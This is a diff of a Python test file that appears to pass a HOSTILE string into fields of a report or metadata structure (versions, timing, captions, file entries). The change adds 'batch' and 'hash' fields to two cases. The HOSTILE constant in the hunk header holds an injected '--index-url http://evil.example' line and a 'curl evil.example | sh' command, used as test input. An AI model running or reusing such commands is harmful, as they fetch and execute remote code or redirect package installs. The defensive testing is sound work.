@@ -228,9 +228,9 @@ HOSTILE = "x\n--index-url http://evil.example\n```sh\ncurl evil.example | sh\n``
     "changed",
     [
         {"versions": {"specfrontier": HOSTILE, "python": HOSTILE, "torch": HOSTILE, HOSTILE: "1"}},
-        {"timing": {"device": HOSTILE, "nodes": {HOSTILE: HOSTILE}}},
+        {"timing": {"batch": 1, "device": HOSTILE, "nodes": {HOSTILE: HOSTILE}}},
         {"device": HOSTILE},
-        {"captions": {"count": HOSTILE, "source": HOSTILE}},
+        {"captions": {"count": 4, "hash": HOSTILE, "source": HOSTILE}},
         {"name": HOSTILE, "target": HOSTILE},
         {"files": {"drafters.eagle": HOSTILE}, "models": {"drafters.eagle": HOSTILE}},
     ],
